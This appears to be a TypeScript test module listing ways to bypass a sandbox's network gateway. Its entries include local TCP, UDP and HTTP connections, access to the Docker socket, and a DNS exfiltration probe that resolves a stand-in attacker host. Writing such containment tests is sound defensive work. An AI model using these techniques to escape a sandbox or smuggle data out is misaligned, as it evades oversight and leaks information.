import dgram from "node:dgram"
import dns from "node:dns/promises"
import http from "node:http"
import net from "node:net"
import tls from "node:tls"
import { type Attack, firstOf } from "../attempt.ts"

/** Ways into the network that are not the gateway's. `given`: the port of a server that listens on this machine. */
export const sockets: Record<string, Attack> = {
  "connect by TCP": (port: number) => firstOf(net.connect({ host: "127.0.0.1", port }), "connect"),
  "listen by TCP": () => firstOf(net.createServer().listen(0, "127.0.0.1"), "listening"),
  "connect to a Unix socket": () => firstOf(net.connect({ path: "/var/run/docker.sock" }), "connect"),
  "listen on a Unix socket": () => firstOf(net.createServer().listen({ path: "/tmp/mallory.sock" }), "listening"),
  "connect by TLS": (port: number) => firstOf(tls.connect({ host: "127.0.0.1", port }), "secureConnect"),
  "ask by HTTP": (port: number) => firstOf(http.get(`http://127.0.0.1:${port}`), "response"),
  fetch: async (port: number) => (await fetch(`http://127.0.0.1:${port}`)).status,
  "open a WebSocket": (port: number) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${port}`)
      socket.onopen = () => resolve("open")
      socket.onerror = () => reject(new Error("the socket did not open"))
    }),
  "send by UDP": (port: number) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket("udp4").on("error", reject)
      socket.send("loot", port, "127.0.0.1", (error) => (error ? reject(error) : resolve("sent")))
    }),
  "look up a name": () => dns.lookup("localhost"),
  "carry loot out in a name": () => dns.resolve("loot.mallory.example"),
}
